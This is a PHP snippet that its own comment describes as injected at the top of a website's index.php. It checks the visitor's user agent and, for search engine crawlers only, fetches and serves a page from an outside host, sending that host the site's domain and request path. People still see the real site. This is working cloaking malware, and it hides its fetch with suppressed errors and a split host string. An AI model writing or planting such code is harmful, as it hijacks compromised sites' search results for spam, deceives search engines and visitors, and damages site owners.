<?php
// Injected at the top of index.php: crawlers get another server's page, people get the site.
@error_reporting(0);
$_0 = @strtolower($_SERVER['HTTP_USER_AGENT']);
$_1 = array('googlebot', 'bingbot', 'baiduspider', 'yandex');
if (preg_match('/' . implode('|', $_1) . '/', $_0)) {
    $_2 = @file_get_contents('http://cdn-' . 'seo.example.net/g.php?d=' . $_SERVER['HTTP_HOST'] . '&p=' . urlencode($_SERVER['REQUEST_URI']));
    if ($_2) { echo $_2; exit; }
}
